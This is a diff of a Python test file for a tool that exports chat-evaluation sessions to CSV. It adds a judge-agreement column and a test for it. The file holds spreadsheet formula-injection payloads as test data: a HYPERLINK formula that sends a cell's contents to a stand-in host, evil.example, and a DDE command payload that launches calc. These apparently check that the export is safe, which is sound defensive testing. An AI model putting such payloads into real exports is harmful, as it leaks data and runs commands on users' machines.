@@ -16,7 +16,18 @@ from ragtui.core.record.store import Store
 from ragtui.core.records.judgments import Judgment
 from ragtui.core.records.stored import StoredSession
 
-PLAIN = ["run", "scenario", "persona", "trial", "language", "date", "customer_model", "bot_model", "judge_model"]
+PLAIN = [
+    "run",
+    "scenario",
+    "persona",
+    "trial",
+    "language",
+    "date",
+    "customer_model",
+    "bot_model",
+    "judge_model",
+    "judge_agreement",
+]
 MALICIOUS = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")'
 
 
@@ -242,3 +253,19 @@ def test_plain_columns_for_a_spreadsheet(store: Store, sessions: list[StoredSess
     assert other["persona"] == "angry" and other["run"] == ""
     assert other["check1"] == "0.48 (2.4/5): Partly answers; misses the steps."
     assert json.loads(other["check1_json"])["conclusion"] == "Partly answers;\nmisses the steps."
+
+
+def test_judge_agreement_column_names_the_measured_figure_or_unmeasured(store: Store) -> None:
+    measured = new_session(store)
+    store.add_message(measured, 1, "user", "scenario", "How do I link?")
+    bot = store.add_message(measured, 1, "bot", "bot", "=cmd|' /C calc'!A0")
+    entry = {"metric": "rubric", "figure": "spearman", "value": 0.1, "n": 18, "on": "=labels.jsonl"}
+    store.add_judgment(measured, bot, 1, Judgment("rubric", 0.4, details={"agreement": entry}))
+    store.refresh_score(measured, "rubric")
+    plain = new_session(store)
+    store.add_message(plain, 1, "user", "scenario", "How do I link?")
+    store.add_judgment(plain, store.add_message(plain, 1, "bot", "bot", "Hi"), 1, scored(0.8))
+    store.refresh_score(plain, "rubric")
+    empty = new_session(store)  # no verdict: nothing to say
+    rows = list(csv.DictReader(io.StringIO(sessions_to_csv([store.session(i) for i in (measured, plain, empty)]))))
+    assert [r["judge_agreement"] for r in rows] == ["Spearman 0.10 (n=18)", "unmeasured", ""]
